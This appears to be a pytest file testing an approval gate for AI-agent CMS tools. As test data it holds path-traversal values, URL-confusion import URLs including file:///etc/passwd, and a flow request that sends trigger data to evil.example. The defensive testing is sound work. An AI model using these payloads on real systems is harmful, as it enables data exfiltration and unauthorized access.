"""The approval gate on the tools' side (issue 12): the attacks of the issue, replayed through the toolbox, the
prepared call's capture and the change preview, send nothing; the facts the policy decides on are right."""

from __future__ import annotations

import json

import pytest

from app.chat.approvals import ApprovalPolicy
from app.directus.changes import preview_changes
from app.directus.client import DirectusClient
from app.directus.prepared import PreparedCall, prepare
from app.directus.registry import get_tool, run_call
from app.directus.scope import Scope
from app.directus.toolbox import Toolbox
from app.directus.tools.items import ItemsArgs
from app.directus.tools.trigger_flow import TriggerFlowArgs, body_of
from devkit.transports import BytesResponse, MockTransport

FLOW = "0b5b1b52-6d4b-4f3e-9a53-3d2d6c1a2b3c"
FIELDS = [{"field": "id", "type": "integer", "schema": {"is_primary_key": True}}, {"field": "title", "type": "string"}]


def answer(request):
    """Directus, roughly: the schema of articles, and rows for any other read or write."""
    path = request.url.split("https://cms.test", 1)[1].split("?", 1)[0]
    data: object
    if path == "/fields/articles":
        data = FIELDS
    elif path == "/collections/articles":
        data = {"collection": "articles", "meta": {"singleton": False}}
    elif path == "/flows/" + FLOW:
        data = {"id": FLOW, "trigger": "manual", "status": "active", "options": {"collections": ["articles"]}}
    else:
        data = [{"id": 3, "title": "Old"}]
    return BytesResponse(200, json.dumps({"data": data}).encode())


@pytest.fixture
def fake():
    transport = MockTransport(answer)
    client = DirectusClient("https://cms.test", transport, token="t")
    return client, transport


def toolbox(client, **modes):
    return Toolbox(client, admin=True, policy=ApprovalPolicy(modes=modes, allow_reads=True))


def error_of(call: PreparedCall) -> str:
    assert call.error is not None and call.preview is None, call
    assert call.error["error"]["code"] == "INVALID_ARGUMENTS"
    return call.error["error"]["message"]


async def test_items_update_on_collection_dotdot_sends_nothing_even_with_items_on_always(fake):
    client, transport = fake
    box = toolbox(client, items="always")
    call = box.prepare(
        "items", json.dumps({"action": "update", "collection": "..", "keys": ["users"], "data": {"role": "x"}})
    )
    assert "collection" in error_of(call)
    outcome = await box.run(call)
    assert not outcome.ok and "collection" in json.loads(outcome.content)["error"]["message"]
    assert await preview_changes(client, call) == []
    assert transport.requests == []


async def test_files_keys_are_file_ids_not_paths(fake):
    client, transport = fake
    box = toolbox(client, files="always")
    update = box.prepare("files", json.dumps({"action": "update", "keys": ["../users/me"], "data": {"role": "x"}}))
    assert "UUID" in error_of(update)
    read = box.prepare("files", json.dumps({"action": "read", "keys": ["../flows/trigger/" + FLOW]}))
    assert "UUID" in error_of(read)  # not a read-only call "allow all reads" would run: it runs nothing
    for call in (update, read):
        assert not (await box.run(call)).ok
    assert transport.requests == []


async def test_showing_the_prompt_of_a_traversing_collection_sends_nothing(fake):
    client, transport = fake
    sneaky = "x/../../flows/trigger/" + FLOW
    update = prepare("items", {"action": "update", "collection": sneaky, "keys": [1], "data": {"title": "t"}})
    schema = prepare("schema", {"collections": [sneaky]})
    for call in (update, schema):
        error_of(call)
        assert await preview_changes(client, call) == []
        assert await call.capture(client) is None
        assert not (await run_call(client, call)).ok
    assert transport.requests == []


async def test_a_call_that_got_past_its_checks_still_reaches_only_its_scope(fake, monkeypatch):
    """The backstop: even with the old unencoded path building and no argument checks, the client held to the
    call's scope refuses the request before it is sent, and the model reads why."""
    import app.directus.tools.items as items

    monkeypatch.setattr(items, "path_of", lambda c, key=None: "/items/" + c + ("" if key is None else "/" + str(key)))
    client, transport = fake
    args = ItemsArgs.model_construct(action="update", collection="..", keys=["users"], data={"role": "x"}, query=None)
    tool = get_tool("items")
    call = PreparedCall("items", "", tool, args, scope=Scope.of("PATCH", "items", "articles", 3))
    outcome = await run_call(client, call)
    error = json.loads(outcome.content)["error"]
    assert not outcome.ok and error["code"] == "PATH_REFUSED" and "/users" in error["message"] and error["next"]
    assert transport.requests == []


async def test_a_prepared_call_reaches_its_own_paths(fake):
    client, transport = fake
    call = prepare("items", {"action": "update", "collection": "articles", "keys": [3], "data": {"title": "New"}})
    assert [tuple(c) for c in await preview_changes(client, call)] == [("articles 3", "title", '"Old"', '"New"')]
    outcome = await run_call(client, call)
    assert outcome.ok
    sent = {(r.method, r.url.split("?", 1)[0]) for r in transport.requests}
    assert sent == {
        ("GET", "https://cms.test/fields/articles"),
        ("GET", "https://cms.test/items/articles"),
        ("PATCH", "https://cms.test/items/articles/3"),
    }


def test_undo_plans_reach_their_own_base_only():
    from pydantic import ValidationError

    from app.directus.undo import UndoPlan

    UndoPlan(kind="update", summary="s", collection="articles", pk="id")
    UndoPlan(kind="update", summary="s", collection="directus_files", endpoint="/files", pk="id")
    for bad in (
        {"collection": "..", "endpoint": ""},
        {"collection": "directus_users", "endpoint": ""},
        {"collection": "directus_files", "endpoint": "/flows/trigger/" + FLOW},
        {"collection": "directus_users", "endpoint": "/files"},
    ):
        with pytest.raises(ValidationError):
            UndoPlan(kind="update", summary="s", pk="id", **bad)


# --- trigger_flow: the flow receives what the prompt shows ----------------------------------------------------------


def test_trigger_flow_data_cannot_name_the_collection_or_keys():
    call = prepare(
        "trigger_flow",
        {
            "id": FLOW,
            "collection": "articles",
            "keys": [1],
            "data": {"collection": "authors", "keys": list(range(500))},
        },
    )
    assert "data.collection" in error_of(call)
    args = TriggerFlowArgs.model_construct(
        id=FLOW, collection="articles", keys=[1], data={"collection": "authors", "keys": [2, 3], "reason": "r"}
    )
    assert body_of(args) == {"reason": "r", "collection": "articles", "keys": [1]}


async def test_trigger_flow_posts_exactly_the_shown_collection_and_keys(fake):
    client, transport = fake
    call = prepare("trigger_flow", {"id": FLOW, "collection": "articles", "keys": [1, 2], "data": {"reason": "r"}})
    assert call.preview is not None and call.summary == f"Run flow {FLOW} on articles (ids 1, 2)"
    assert call.preview.details == {"collection": "articles", "keys": [1, 2], "data": {"reason": "r"}}
    await run_call(client, call)
    posted = [r for r in transport.requests if r.method == "POST"]
    assert [r.url for r in posted] == [f"https://cms.test/flows/trigger/{FLOW}"]
    assert json.loads(posted[0].body) == {"reason": "r", "collection": "articles", "keys": [1, 2]}


def test_a_flow_run_counts_its_keys_as_writes():
    few = prepare("trigger_flow", {"id": FLOW, "collection": "articles", "keys": [1, 2]}).preview
    many = prepare("trigger_flow", {"id": FLOW, "collection": "articles", "keys": list(range(1, 6))}).preview
    assert few is not None and many is not None
    assert (few.action, few.writes, few.bulk, few.read_only) == ("run", 2, False, False)
    assert (many.writes, many.bulk) == (5, True)
    assert "id" in error_of(prepare("trigger_flow", {"id": "../flows/x", "collection": "articles"}))


# --- facts for the policy ---------------------------------------------------------------------------------------------


def test_an_import_from_a_url_always_asks_and_names_the_hosts():
    one = prepare("files", {"action": "import", "data": {"url": "https://example.com/a.png?secret=1"}}).preview
    assert one is not None and one.always_ask and (one.action, one.writes) == ("import", 1)
    assert one.summary == "Import 1 file from example.com (Directus will download it)"
    two = prepare(
        "files", {"action": "import", "data": [{"url": "https://a.test/1.png"}, {"url": "http://10.0.0.1:8080/x"}]}
    ).preview
    assert two is not None and two.always_ask
    assert two.summary == "Import 2 files from a.test, 10.0.0.1 (Directus will download them)"


UUID2 = "5e1f0c0e-2b6a-4f36-9c1d-8a7b6c5d4e3f"


@pytest.mark.parametrize(
    "name, arguments",
    [
        ("items", {"action": "update", "collection": "articles", "keys": [1], "data": {"title": ""}}),
        ("items", {"action": "update", "collection": "articles", "keys": [1], "data": {"author": None}}),
        ("items", {"action": "update", "collection": "articles", "keys": [1], "data": {"categories": []}}),
        ("items", {"action": "update", "collection": "articles", "data": [{"id": 1, "body": ""}]}),
        ("items", {"action": "update", "collection": "home", "data": {"intro": None}}),
        ("files", {"action": "update", "keys": [UUID2], "data": {"description": ""}}),
        ("folders", {"action": "update", "keys": [UUID2], "data": {"parent": None}}),
        ("flows", {"action": "update", "keys": [UUID2], "data": {"description": ""}}),
        ("collections", {"action": "update", "keys": ["articles"], "data": {"meta": None}}),
        ("fields", {"action": "update", "collection": "articles", "field": "title", "data": {"meta": None}}),
        ("relations", {"action": "update", "collection": "articles", "field": "author", "data": {"meta": None}}),
    ],
)
def test_updates_that_blank_a_field_are_destructive(name, arguments):
    p = prepare(name, arguments).preview
    assert p is not None and p.destructive and p.action == "update"
    # ("x" for []: a non-empty array replaces the related set, which unlinks the others: destructive too)
    kept = json.loads(json.dumps(arguments).replace('""', '"x"').replace("null", '"x"').replace("[]", '"x"'))
    q = prepare(name, kept).preview
    assert q is not None and not q.destructive


@pytest.mark.parametrize(
    "name, arguments, action, writes",
    [
        ("schema", {}, "read", 0),
        ("items", {"action": "read", "collection": "articles"}, "read", 0),
        (
            "items",
            {"action": "create", "collection": "articles", "data": [{"title": "a"}, {"title": "b"}]},
            "create",
            2,
        ),
        ("items", {"action": "update", "collection": "articles", "keys": [1, 2, 3], "data": {"x": 1}}, "update", 3),
        ("items", {"action": "delete", "collection": "articles", "keys": [4]}, "delete", 1),
        ("files", {"action": "delete", "keys": [UUID2]}, "delete", 1),
        ("folders", {"action": "create", "data": {"name": "n"}}, "create", 1),
        ("operations", {"action": "delete", "keys": [UUID2]}, "delete", 1),
        ("collections", {"action": "create", "data": [{"collection": "a"}, {"collection": "b"}]}, "create", 2),
        ("fields", {"action": "create", "collection": "a", "data": {"field": "f", "type": "string"}}, "create", 1),
        ("relations", {"action": "create", "data": {"collection": "a", "field": "b"}}, "create", 1),
        ("trigger_flow", {}, "read", 0),
    ],
)
def test_every_preview_says_its_action_and_how_much_it_writes(name, arguments, action, writes):
    p = prepare(name, arguments).preview
    assert p is not None and (p.action, p.writes) == (action, writes) and p.read_only == (action == "read")


def test_arguments_nested_very_deep_are_refused_with_words():
    deep = '{"action": "create", "collection": "articles", "data": ' + "[" * 30000 + "]" * 30000 + "}"
    assert "nested more than" in error_of(prepare("items", deep))
    text = "[" * 30000 + "]" * 30000  # nested JSON text inside an argument
    call = prepare("items", {"action": "create", "collection": "articles", "data": text})
    assert "nested more than" in error_of(call)
    value: object = {}
    for _ in range(200):
        value = {"a": value}
    assert "nested more than" in error_of(prepare("items", {"action": "create", "collection": "a", "data": value}))
    ok = prepare("items", {"action": "read", "collection": "a", "query": {"filter": {"_and": [{"_or": [{"a": 1}]}]}}})
    assert ok.error is None


def directus_answering(routes: dict):
    """A Directus that answers `routes` {path: data} (anything else: 404)."""

    def handle(request):
        path = request.url.split("https://cms.test", 1)[1].split("?", 1)[0]
        if path not in routes:
            return BytesResponse(404, b'{"errors":[{"message":"nf","extensions":{"code":"ROUTE_NOT_FOUND"}}]}')
        return BytesResponse(200, json.dumps({"data": routes[path]}).encode())

    transport = MockTransport(handle)
    return DirectusClient("https://cms.test", transport, token="t"), transport


@pytest.mark.parametrize(
    "fields",
    [
        [1],  # not an object
        [{"field": "a", "meta": "x"}],  # meta not an object
        [{"field": "a", "meta": {"sort": "1"}}, {"field": "b", "meta": {"sort": 2}}],  # sorts of mixed types
        {"field": "a"},  # not a list
    ],
)
async def test_a_hostile_fields_answer_is_read_as_far_as_it_makes_sense(fields):
    client, _ = directus_answering({"/fields/articles": fields, "/relations": [{"collection": 1, "meta": "x"}]})
    outcome = await run_call(client, prepare("schema", '{"collections":["articles"]}'))
    assert outcome.ok, outcome.content


async def test_a_hostile_collections_answer_is_read_as_far_as_it_makes_sense():
    client, _ = directus_answering({"/collections": [{"collection": "a", "meta": "x", "schema": {}}, 5]})
    outcome = await run_call(client, prepare("schema", "{}"))
    assert outcome.ok and json.loads(outcome.content) == {"collections": {"a": ""}}


async def test_an_answer_no_guard_foresaw_is_an_error_the_model_reads_not_a_dead_turn():
    odd = [{"collection": "articles", "field": "a", "meta": {"one_allowed_collections": [1]}}]  # joined as text
    client, _ = directus_answering({"/fields/articles": [{"field": "a", "type": "integer"}], "/relations": odd})
    outcome = await run_call(client, prepare("schema", '{"collections":["articles"]}'))
    assert not outcome.ok
    error = json.loads(outcome.content)["error"]
    assert error["code"] == "UNEXPECTED_ANSWER" and "unexpected shape" in error["message"]


@pytest.mark.parametrize(
    "url",
    [
        "https://evil.example\\@good.example/x.png",  # Python shows good.example; Node reads "\" as "/": evil.example
        "https://good.example%2F@evil.example/",  # userinfo
        "https://good.example@evil.example/",
        "https://evil.example\t@good.example/",  # Node drops tabs and newlines
        "https://good.example\n/x.png",
        "https://evil%2Eexample/x.png",  # Node decodes the host
        "https://gооd.example/x.png",  # Cyrillic o's: Node turns them into punycode
        "file:///etc/passwd",
        "ftp://good.example/x.png",
    ],
)
def test_an_import_url_the_prompt_and_directus_could_read_differently_is_refused(url):
    call = prepare(
        "files", json.dumps({"action": "import", "data": [{"url": "https://ok.example/a.png"}, {"url": url}]})
    )
    assert "data[1].url" in error_of(call)


def test_an_import_names_the_host_directus_will_reach():
    call = prepare("files", json.dumps({"action": "import", "data": {"url": "HTTPS://Evil.example#@good.example/"}}))
    assert call.preview is not None and call.preview.always_ask
    assert "from evil.example " in call.preview.summary


@pytest.mark.parametrize("tool", ["flows", "operations"])
@pytest.mark.parametrize(
    "arguments",
    [
        {"action": "create", "data": {"type": "request", "options": {"url": "https://evil.example/?d={{$trigger}}"}}},
        {"action": "update", "keys": [FLOW], "data": {"options": {"url": "https://evil.example/"}}},
        {"action": "update", "data": [{"id": FLOW, "status": "active"}]},
    ],
)
def test_flow_and_operation_writes_always_ask_even_with_always_allow(tool, arguments):
    call = prepare(tool, json.dumps(arguments))
    assert call.preview is not None and call.preview.always_ask
    policy = ApprovalPolicy(allowed=[f"{tool}:{arguments['action']}"], modes={tool: "always"})
    assert policy.decide(tool, call.preview) == "ask"


async def test_create_on_a_singleton_overwrites_nothing_and_says_to_update():
    client, transport = directus_answering(
        {"/collections/settings": {"collection": "settings", "meta": {"singleton": True}}, "/items/settings": {}}
    )
    call = prepare("items", json.dumps({"action": "create", "collection": "settings", "data": {"title": None}}))
    assert call.scope.allows("PATCH", "/items/settings") is False  # a create may only POST
    outcome = await run_call(client, call)
    error = json.loads(outcome.content)["error"]
    assert not outcome.ok and error["code"] == "INVALID_ARGUMENTS" and "action update" in error["message"]
    assert {r.method for r in transport.requests} == {"GET"}  # reads only (is it a singleton?): no write


@pytest.mark.parametrize(
    "name, arguments, deletes",
    [
        (  # comments created and deleted through one "update 1 item"
            "items",
            {
                "action": "update",
                "collection": "articles",
                "keys": [1],
                "data": {"comments": {"create": [{"t": 1}], "update": [], "delete": [4, 5]}},
            },
            True,
        ),
        (  # an object on a many-to-one field to directus_users: updates that user (its role)
            "items",
            {"action": "update", "collection": "articles", "keys": [1], "data": {"author": {"id": "u", "role": "r"}}},
            False,
        ),
        ("items", {"action": "update", "collection": "articles", "keys": [1], "data": {"categories": [1, 2]}}, True),
        (
            "items",
            {"action": "create", "collection": "articles", "data": [{"title": "a"}, {"user_created": {}}]},
            False,
        ),
        ("items", {"action": "update", "collection": "articles", "data": [{"id": 1, "tags": {"delete": [1]}}]}, True),
        ("files", {"action": "update", "keys": [UUID2], "data": {"folder": {"name": "new", "parent": None}}}, False),
        ("files", {"action": "import", "data": {"url": "https://a.test/x.png", "uploaded_by": {"id": "u"}}}, False),
    ],
)
def test_nested_related_data_always_asks_and_says_so(name, arguments, deletes):
    p = prepare(name, arguments).preview
    assert p is not None and p.always_ask and "with nested related items" in p.summary
    assert p.destructive is deletes
    policy = ApprovalPolicy(
        allowed=[f"{name}:{arguments['action']}"], modes={name: "always"}, confirm_destructive=False
    )
    assert policy.decide(name, p) == "ask"


def test_flat_data_does_not_say_nested():
    p = prepare("items", {"action": "update", "collection": "articles", "keys": [1], "data": {"title": "x", "n": 2}})
    assert p.preview is not None and not p.preview.always_ask and "nested" not in p.preview.summary
